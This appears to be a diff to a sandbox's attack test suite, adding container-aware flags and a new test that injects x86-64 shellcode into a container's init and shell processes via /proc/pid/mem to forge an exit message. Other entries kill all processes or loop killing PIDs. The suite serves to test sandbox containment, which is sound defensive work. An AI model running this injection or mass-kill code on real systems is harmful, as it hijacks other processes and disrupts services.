@@ -12,6 +12,7 @@ from tests.attacks.targets import SMALL, Target
 _ENDS = frozenset({"ok", "error", "died", "timeout"})
 """It ends somehow; that it ends, and harms nobody, is what counts."""
 _DIES = frozenset({"died", "timeout"})
+_DIED = frozenset({"died"})
 
 
 @dataclass(frozen=True, slots=True)
@@ -32,11 +33,20 @@ class Attack:
     """Whether only control groups hold it: an ordinary user's limits are per process."""
     needs_root: bool = False
     """Whether only a user id of the sandbox's own holds it."""
+    needs_container: bool = False
+    """Whether it is aimed at what only a container has inside."""
+    ends_containers: bool = False
+    """Whether it may also die in a container, since there it sees processes of ours beside it."""
 
     def meets(self, target: Target) -> bool:
         """Return whether it can be tried there."""
-        strong = target.user == "root" or not (self.needs_groups or self.needs_root)
-        return target.place in self.places and strong
+        held = target.strong or not (self.needs_groups or self.needs_root)
+        found = target.contained or not self.needs_container
+        return target.place in self.places and held and found
+
+    def outcomes_in(self, target: Target) -> frozenset[str]:
+        """Return what may come of it there."""
+        return self.outcomes | (_DIED if self.ends_containers and target.contained else frozenset())
 
 
 RESOURCES = (
@@ -162,6 +172,31 @@ RESOURCES = (
     ),
 )
 
+# Writes x86-64 code into the init and the shells of the own container: tell the lifeline of an end
+# that is none, let go of it, and wait. A call that is interrupted begins anew two bytes earlier.
+_FORGED_END = r"""
+import os, signal, time
+from pathlib import Path
+def call(number, first): return b'\xb8%c\0\0\0\xbf%c\0\0\0' % (number, first)
+WRITE, CLOSE, PAUSE, DO = 1, 3, 34, b'\x0f\5'
+LATER = b''.join(call(CLOSE, fd) + DO for fd in (10, 3, 0)) + call(PAUSE, 0) + DO + b'\xeb\xf2'
+WORD = b'\x48\x8d\x35' + (7 + len(LATER)).to_bytes(4, 'little') + b'\xba\6\0\0\0'
+CODE = b'\xeb\0' + call(WRITE, 10) + WORD + DO + LATER + b'end 0\n'
+found = {int(p.name): (p / 'comm').read_text().strip() for p in Path('/proc').glob('[0-9]*')}
+others = [pid for pid, name in sorted(found.items(), reverse=True) if name in ('tini', 'sh')]
+try:
+    for pid in others:
+        at = int(Path(f'/proc/{pid}/syscall').read_text().split()[-1], 16) - 2
+        with open(f'/proc/{pid}/mem', 'r+b', buffering=0) as memory:
+            memory.seek(at)
+            memory.write(CODE)
+        os.kill(pid, signal.SIGSTOP)
+        os.kill(pid, signal.SIGCONT)
+        time.sleep(0.2)
+except OSError as error: print(error)
+time.sleep(60)
+"""
+
 PROCESSES = (
     Attack("os._exit", "import os\nos._exit(0)", frozenset({"died"}), often=True),
     Attack("a signal to itself", "import os\nos.kill(os.getpid(), 9)", frozenset({"died"})),
@@ -171,6 +206,7 @@ PROCESSES = (
         "import os\nos.kill(-1, 9)",
         # There is nobody: neither oneself nor process 1 is meant, and the host's are not seen.
         frozenset({"ok", "error"}),
+        ends_containers=True,
         often=True,
     ),
     Attack(
@@ -185,7 +221,8 @@ PROCESSES = (
         "for pid in range(2, 70_000):\n    if pid in own: continue\n"
         "    try: os.kill(pid, 9)\n    except OSError: pass\nprint('done')",
         frozenset({"ok"}),
-        "done\n",
+        text="done\n",
+        ends_containers=True,
     ),
     Attack(
         "daemons",
@@ -220,5 +257,11 @@ PROCESSES = (
         "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
         frozenset({"died", "timeout"}),
         limits=SMALL.model_copy(update={"cpu_seconds": 2, "run_seconds": 20}),
+    ),
+    Attack(
+        "the end of the own container, forged",
+        _FORGED_END,
+        _DIES,
+        needs_container=True,
     ),
 )
